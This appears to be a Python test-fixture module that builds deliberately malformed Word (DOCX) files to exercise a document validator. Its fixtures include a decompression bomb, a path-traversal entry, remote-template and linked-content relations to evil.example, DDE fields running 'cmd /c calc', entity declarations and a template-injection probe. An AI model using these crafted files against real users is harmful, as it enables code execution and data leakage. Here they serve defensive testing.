"""Word files as they should not be: each made from a good one by what is wrong with it."""

import struct
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tansiq_desk.paper.word.shipped import shipped_template

GOOD = shipped_template("minutes")
TYPES = "[Content_Types].xml"
BODY, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def changed(good=GOOD, *, add=None, replace=(), drop=()):
    """Give a DOCX with parts added or dropped, and texts in its parts replaced: (part, before, after)."""
    with ZipFile(BytesIO(good)) as packed:
        parts = {it: packed.read(it) for it in packed.namelist() if it not in drop}
    for name, before, after in replace:
        assert before.encode() in parts[name], before
        parts[name] = parts[name].replace(before.encode(), after.encode(), 1)
    parts |= add or {}
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return stream.getvalue()


def line(xml):
    """Give a DOCX with something more at the beginning of its text."""
    return changed(replace=[(BODY, "<w:body>", f"<w:body>{xml}")])


def relation(kind, target, mode=""):
    """Give a DOCX that is related to something more."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    told = f'<Relationship Id="rId90" Type="{space}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(replace=[(RELATIONS, "</Relationships>", told)])


def field(*pieces):
    """Give a DOCX with a field whose instruction Word parted into several runs."""
    inside = "".join(f"<w:r><w:instrText>{it}</w:instrText></w:r>" for it in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return line(f"<w:p>{mark.format('begin')}{inside}{mark.format('separate')}{mark.format('end')}</w:p>")


def bombs():
    """Give a small DOCX that unpacks to more than any text: sixty million blanks."""
    return changed(add={"word/media/image1.png": b" " * 61_000_000})


def encrypted_zip():
    """Give a DOCX whose entries say that they are encrypted."""
    content = bytearray(GOOD)
    at = content.index(b"PK\x01\x02")
    struct.pack_into("<H", content, at + 8, 1)
    return bytes(content)


EXTERNAL = ' TargetMode="External"'
MAIN_TYPE = "wordprocessingml.document.main+xml"
WHOLE_TYPE = f"vnd.openxmlformats-officedocument.{MAIN_TYPE}"
IN_A_TABLE = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{{body}}</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p/>"
NO_BODY = (BODY, "{{body}}", "x")
BAD = {
    "empty": (b"", "empty"),
    "text": (b"just words", "not_a_text"),
    "half": (GOOD[: len(GOOD) // 2], "damaged"),
    "broken inside": (GOOD[:400] + b"\0" * 40 + GOOD[440:], "damaged"),
    "password": (OLE + b"\0" * 64 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "password of the archive": (encrypted_zip(), "encrypted"),
    "old word": (OLE + b"\0" * 64, "old_format"),
    "macros": (changed(add={"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (changed(replace=[(TYPES, WHOLE_TYPE, "vnd.ms-word.document.macroEnabled.main+xml")]), "macros"),
    "template": (changed(replace=[(TYPES, MAIN_TYPE, "wordprocessingml.template.main+xml")]), "template_format"),
    "sheet": (changed(replace=[(TYPES, MAIN_TYPE, "spreadsheetml.sheet.main+xml")]), "not_a_text"),
    "no text": (changed(drop=[BODY]), "not_a_text"),
    "archive": (changed(drop=[TYPES]), "not_a_text"),
    "opendocument": (changed(add={"mimetype": b"application/vnd.oasis.opendocument.text"}), "other_program"),
    "bomb": (bombs(), "too_large_inside"),
    "many": (changed(add={f"word/media/{n}.png": b"" for n in range(1001)}), "too_large_inside"),
    "entities": (changed(replace=[(BODY, "<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')]), "entities"),
    "other letters": (changed(add={"word/comments.xml": "<a/>".encode("utf-16")}), "entities"),
    "broken xml": (changed(replace=[(BODY, "</w:body>", "")]), "damaged"),
    "deep": (line("<w:p>" * 2000 + "</w:p>" * 2000), "damaged"),
    "leads out": (changed(add={"../../evil.xml": b"<a/>"}), "damaged"),
    "twice": (changed(add={"WORD/document.xml": b"<a/>"}), "damaged"),
    "remote template": (relation("attachedTemplate", "http://evil.example/a.dotm", EXTERNAL), "remote_template"),
    "template on a share": (relation("attachedTemplate", "file:///\\\\evil\\a.dotm"), "remote_template"),
    "linked picture": (relation("image", "http://evil.example/a.png", EXTERNAL), "external_link"),
    "link": (relation("hyperlink", "http://evil.example", EXTERNAL), "external_link"),
    "object": (relation("oleObject", "embeddings/a.bin"), "embedded"),
    "embedded": (changed(add={"word/embeddings/a.bin": b"x"}), "embedded"),
    "control": (changed(add={"word/activeX/activeX1.xml": b"<a/>"}), "embedded"),
    "object in the text": (line("<w:p><w:r><w:object/></w:r></w:p>"), "embedded"),
    "taken in": (line('<w:altChunk w:val="x"/>'), "taken_in"),
    "of a kind to take in": (relation("aFChunk", "a.html"), "embedded"),
    "recipients": (changed(replace=[("word/settings.xml", "<w:zoom", "<w:mailMerge/><w:zoom")]), "mail_merge"),
    "dde": (field("DDE", "AUTO cmd /c calc"), "field"),
    "dde in one": (line('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>'), "field"),
    "picture from elsewhere": (field("INCLUDE", 'PICTURE "http://evil.example/a"'), "field"),
    "spelled by numbers": (field("QUOTE 68 68 69"), "field"),
    "link by a field": (field('HYPERLINK "http://evil.example"'), "field"),
}  # fmt: skip
"""Files that are neither a template nor a text, and the code of what is wrong with each."""

BAD_TEMPLATES = {
    "no body": (changed(replace=[NO_BODY]), "no_body"),
    "two bodies": (line("<w:p><w:r><w:t>{{body}}</w:t></w:r></w:p>"), "several_bodies"),
    "body with words": (changed(replace=[(BODY, "{{body}}", "so: {{body}}")]), "body_not_alone"),
    "body in a table": (
        changed(replace=[NO_BODY, (BODY, "<w:sectPr", f"{IN_A_TABLE}<w:sectPr")]),
        "body_not_alone",
    ),
    "body in the header": (changed(replace=[NO_BODY, ("word/header1.xml", "{{marking}}", "{{body}}")]), "body_not_alone"),
    "unknown": (changed(replace=[("word/footer1.xml", "{{pages}}", "{{page}}")]), "unknown_marker"),
    "left over": (changed(replace=[(BODY, "{{title}}", "{{title}")]), "unknown_marker"),
    "program": (changed(replace=[(BODY, "{{title}}", "{% import os %}{{ 7*7 }}")]), "unknown_marker"),
}  # fmt: skip
"""Texts that are no template."""
FINE_FIELDS = (field("PAGE"), field("TOC \\o ", '"1-3"'), field('HYPERLINK \\l "here"'), field(" = 1+1 "))
